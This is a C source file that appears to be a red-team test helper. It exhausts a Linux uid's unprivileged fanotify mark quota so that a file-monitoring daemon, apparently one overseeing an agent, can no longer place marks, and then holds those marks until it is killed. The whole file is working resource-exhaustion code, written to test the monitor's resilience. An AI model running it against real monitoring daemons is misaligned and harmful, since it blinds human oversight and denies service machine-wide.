/* SPDX-License-Identifier: MIT */
/*
 * fan-hog DIR FILES: what an agent without CAP_SYS_ADMIN can do to the
 * daemon's uid (red team F14): fanotify groups of its own (FAN_REPORT_FID,
 * allowed unprivileged since Linux 5.13) with inode marks on FILES files it
 * makes in DIR, group after group, until the uid's marks are spent (ENOSPC).
 * Says "held N" on stdout, then holds them until killed. Must not be run as
 * a uid other tests share: the marks are the uid's, machine-wide.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <unistd.h>

/* Groups at most: max_user_groups is 128, and the daemon needs its own. */
#define GROUPS_MAX 100

int main(int argc, char **argv) {
        char name[32];
        long held = 0;
        if (argc != 3)
                return 2;
        int n = atoi(argv[2]), dfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (dfd < 0 || n <= 0)
                return 2;
        for (int i = 0; i < n; i++) {
                snprintf(name, sizeof name, "m%d", i);
                int fd = openat(dfd, name, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
                if (fd < 0)
                        return 2;
                close(fd);
        }
        for (int g = 0; g < GROUPS_MAX; g++) {
                int fan = fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY);
                if (fan < 0) {
                        fprintf(stderr, "fanotify_init: %s\n", strerror(errno));
                        return 1;
                }
                for (int i = 0; i < n; i++) {
                        snprintf(name, sizeof name, "m%d", i);
                        if (fanotify_mark(fan, FAN_MARK_ADD, FAN_CLOSE_WRITE, dfd, name) < 0) {
                                if (errno != ENOSPC) {
                                        fprintf(stderr, "fanotify_mark: %s\n", strerror(errno));
                                        return 1;
                                }
                                printf("held %ld\n", held);
                                fflush(stdout);
                                for (;;)
                                        pause();
                        }
                        held++;
                }
        }
        fprintf(stderr, "the marks did not run out after %ld\n", held);
        return 1;
}
